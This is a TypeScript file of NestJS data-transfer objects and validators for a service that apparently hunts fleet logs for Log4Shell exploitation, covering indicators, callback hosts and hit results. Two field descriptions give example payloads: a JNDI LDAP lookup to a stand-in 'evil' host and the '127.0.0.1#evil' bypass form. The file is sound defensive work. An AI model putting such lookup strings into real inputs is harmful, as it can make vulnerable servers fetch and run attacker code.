import { HUNT_LIMITS } from '@log4fleet/contracts';
import { ApiProperty, ApiPropertyOptional, IntersectionType, OmitType } from '@nestjs/swagger';
import {
  ValidateBy,
  ArrayMaxSize,
  IsArray,
  IsBoolean,
  IsIn,
  IsInt,
  IsISO8601,
  IsOptional,
  IsString,
  Matches,
  Max,
  MaxLength,
  Min,
} from 'class-validator';
import { PageQueryDto } from '../common/pagination.dto';
import { IsIntInRange, IsUuid } from '../common/validators';

const ABSOLUTE = /^\//;
const HASH = /^(?:[0-9a-fA-F]{32}|[0-9a-fA-F]{40}|[0-9a-fA-F]{64})$/;

/** Each string at most `max` UTF-8 bytes: the agent counts bytes (HUNT_LIMITS.pathBytes), not characters. */
function MaxBytesEach(max: number): PropertyDecorator {
  return ValidateBy({
    name: 'maxBytesEach',
    validator: {
      validate: (value: unknown) =>
        !Array.isArray(value) ||
        value.every((v) => typeof v !== 'string' || Buffer.byteLength(v) <= max),
      defaultMessage: (args) =>
        `each of ${args?.property ?? 'the values'} must be at most ${max} bytes (UTF-8)`,
    },
  });
}

function PathList(): PropertyDecorator {
  return (target, key) => {
    IsOptional()(target, key);
    IsArray()(target, key);
    ArrayMaxSize(HUNT_LIMITS.paths)(target, key);
    IsString({ each: true })(target, key);
    MaxBytesEach(HUNT_LIMITS.pathBytes)(target, key);
    Matches(ABSOLUTE, { each: true, message: `${String(key)} must be absolute paths` })(
      target,
      key,
    );
  };
}

function IndicatorList(): PropertyDecorator {
  return (target, key) => {
    IsOptional()(target, key);
    IsArray()(target, key);
    ArrayMaxSize(HUNT_LIMITS.indicators)(target, key);
    IsString({ each: true })(target, key);
    MaxLength(HUNT_LIMITS.indicatorChars, { each: true })(target, key);
    MaxBytesEach(HUNT_LIMITS.indicatorChars)(target, key);
  };
}

/** A hunt's parameters (HuntCommand), as a REST body, a campaign's or a schedule's params. */
export class CreateHuntDto {
  @ApiPropertyOptional({
    type: [String],
    description:
      'Log files or directories (absolute, .gz included); empty: the usual log locations and the files running JVMs write',
  })
  @PathList()
  paths?: string[];

  @ApiPropertyOptional({
    description: 'Only lines written at or after this time (ISO 8601), e.g. 2021-12-01T00:00:00Z',
  })
  @IsOptional()
  @IsISO8601({ strict: true })
  since?: string;

  @ApiPropertyOptional({ type: [String], description: 'Indicator strings searched in log lines' })
  @IndicatorList()
  indicatorStrings?: string[];
  @ApiPropertyOptional({
    type: [String],
    description: 'C2 addresses or domains (log lines, callback hosts, JVM connections)',
  })
  @IndicatorList()
  indicatorC2?: string[];
  @ApiPropertyOptional({ type: [String], description: 'MD5, SHA-1 or SHA-256 of files' })
  @IndicatorList()
  @Matches(HASH, {
    each: true,
    message: 'indicatorHashes must be MD5, SHA-1 or SHA-256 hex digests',
  })
  indicatorHashes?: string[];
  @ApiPropertyOptional({ type: [String], description: 'File name substrings or globs (*, **, ?)' })
  @IndicatorList()
  indicatorFilenames?: string[];
  @ApiPropertyOptional({
    type: [String],
    description: 'More paths checked against hashes and file names only',
  })
  @PathList()
  indicatorPaths?: string[];
  @ApiPropertyOptional({
    type: [String],
    description:
      'Configuration and application directories: files changed after changedSince are listed',
  })
  @PathList()
  configDirs?: string[];
  @ApiPropertyOptional({
    description: 'Date for configDirs (ISO 8601); default: since, else 2021-12-01',
  })
  @IsOptional()
  @IsISO8601({ strict: true })
  changedSince?: string;
  @ApiPropertyOptional({
    description: 'With no paths: leave out the files running JVMs write and their connections',
  })
  @IsOptional()
  @IsBoolean()
  noJvms?: boolean;
  @ApiPropertyOptional({ minimum: 0, maximum: HUNT_LIMITS.maxLineBytes, description: '0: 1 MiB' })
  @IsOptional()
  @IsIntInRange(0, HUNT_LIMITS.maxLineBytes)
  maxLineBytes?: number;
  @ApiPropertyOptional({
    minimum: 0,
    maximum: HUNT_LIMITS.maxDecompressedBytes,
    description: '0: 8 GiB',
  })
  @IsOptional()
  @IsIntInRange(0, HUNT_LIMITS.maxDecompressedBytes)
  maxDecompressedBytes?: number;

  @ApiPropertyOptional({
    minimum: 60,
    maximum: 2592000,
    description: 'Seconds after which the agent must not start it',
  })
  @IsOptional()
  @IsInt()
  @Min(60)
  @Max(30 * 86_400)
  expiresInSeconds?: number;
}

/** A hunt's parameters in a campaign or a schedule: the campaign's expiresAt replaces a per-command expiry. */
export class HuntParamsDto extends OmitType(CreateHuntDto, ['expiresInSeconds'] as const) {}

export const HUNT_HIT_KINDS = [
  'jndi',
  'recursion',
  'nesting',
  'trace',
  'indicator',
  'connection',
  'changed-file',
] as const;

export class HuntHitFilterDto {
  @ApiPropertyOptional({ enum: HUNT_HIT_KINDS }) @IsOptional() @IsIn(HUNT_HIT_KINDS) kind?: string;
  @ApiPropertyOptional({ enum: ['high', 'low'] })
  @IsOptional()
  @IsIn(['high', 'low'])
  confidence?: string;
  @ApiPropertyOptional({
    description: 'Callback host (the attacker infrastructure), exact, case-insensitive',
  })
  @IsOptional()
  @IsString()
  @MaxLength(1024)
  callbackHost?: string;
  @ApiPropertyOptional() @IsOptional() @IsUuid() hostId?: string;
  @ApiPropertyOptional() @IsOptional() @IsUuid() commandId?: string;
  @ApiPropertyOptional({ example: 'CVE-2021-45046' })
  @IsOptional()
  @Matches(/^CVE-\d{4}-\d{4,7}$/, { message: 'cve must look like CVE-2021-44228' })
  cve?: string;
  @ApiPropertyOptional({ description: "The line's own timestamp at or after (ISO 8601)" })
  @IsOptional()
  @IsISO8601({ strict: true })
  since?: string;
  @ApiPropertyOptional({ description: "The line's own timestamp before (ISO 8601)" })
  @IsOptional()
  @IsISO8601({ strict: true })
  until?: string;
}

export class HuntHitQueryDto extends IntersectionType(PageQueryDto, HuntHitFilterDto) {}
export class HostHuntHitQueryDto extends IntersectionType(
  PageQueryDto,
  OmitType(HuntHitFilterDto, ['hostId'] as const),
) {}

export class CallbackTargetDto {
  @ApiProperty() protocol!: string;
  @ApiProperty() host!: string;
  @ApiProperty({ nullable: true, type: Number }) port!: number | null;
  @ApiProperty() path!: string;
  @ApiProperty() callbackHost!: string;
  @ApiProperty({
    nullable: true,
    type: String,
    description: 'hash-host: the 127.0.0.1#evil form (CVE-2021-45046)',
  })
  bypass!: string | null;
}

export class ExfiltrationDto {
  @ApiProperty() expression!: string;
  @ApiProperty() lookup!: string;
  @ApiProperty() name!: string;
  @ApiProperty({ enum: ['host', 'port', 'path', 'protocol'] }) where!: string;
}

export class HuntHitDto {
  @ApiProperty() id!: string;
  @ApiProperty() hostId!: string;
  @ApiProperty() commandId!: string;
  @ApiProperty({ enum: HUNT_HIT_KINDS }) kind!: string;
  @ApiProperty({ enum: ['high', 'low'] }) confidence!: string;
  @ApiProperty({ description: 'Log file (the .gz itself), /proc/PID, or the changed file' })
  file!: string;
  @ApiProperty({ description: '0 for a whole file or a process' }) line!: number;
  @ApiProperty({ nullable: true, type: String, description: "The line's own timestamp (UTC)" })
  timestamp!: string | null;
  @ApiProperty() raw!: string;
  @ApiProperty() rawTruncated!: boolean;
  @ApiProperty({ description: 'Decoded and resolved form, e.g. ${jndi:ldap://evil:1389/a}' })
  decoded!: string;
  @ApiProperty({ nullable: true, type: CallbackTargetDto }) target!: CallbackTargetDto | null;
  @ApiProperty({ type: [ExfiltrationDto] }) exfiltrates!: ExfiltrationDto[];
  @ApiProperty({ nullable: true, type: String }) trace!: string | null;
  @ApiProperty({ type: [String] }) obfuscation!: string[];
  @ApiProperty({ type: [String] }) cves!: string[];
  @ApiProperty({ nullable: true, type: String }) indicatorType!: string | null;
  @ApiProperty({ nullable: true, type: String }) indicatorValue!: string | null;
  @ApiProperty() message!: string;
  @ApiProperty() createdAt!: string;
}

/** One attacker's infrastructure across the fleet. */
export class CallbackHostDto {
  @ApiProperty() callbackHost!: string;
  @ApiProperty({ description: 'Hosts with at least one hit calling back to it' }) hosts!: number;
  @ApiProperty() hits!: number;
  @ApiProperty({ type: [String] }) protocols!: string[];
  @ApiProperty({ nullable: true, type: String }) firstSeen!: string | null;
  @ApiProperty({ nullable: true, type: String }) lastSeen!: string | null;
}

export class CallbackHostQueryDto extends PageQueryDto {
  @ApiPropertyOptional({ description: "Hits whose line's timestamp is at or after (ISO 8601)" })
  @IsOptional()
  @IsISO8601({ strict: true })
  since?: string;
}

/** One hunt command's run on a host: what it read and what it could not. */
export class HuntRunDto {
  @ApiProperty() commandId!: string;
  @ApiProperty() hostId!: string;
  @ApiProperty({
    type: Object,
    nullable: true,
    description:
      'files, filesSkippedOld, filesSkippedBinary, bytes, lines, hits, errors, startedAt, finishedAt, durationMs, hitsDropped; null until the last part arrived',
  })
  summary!: Record<string, unknown> | null;
  @ApiProperty({
    type: Object,
    isArray: true,
    description: '{path, code, error}: what was not fully read',
  })
  errors!: Array<{ path: string; code: string; error: string }>;
  @ApiProperty({ description: 'Hits stored (changed files included)' }) hits!: number;
  @ApiProperty({ nullable: true, type: String, description: 'When every part was ingested' })
  completedAt!: string | null;
  @ApiProperty() createdAt!: string;
}
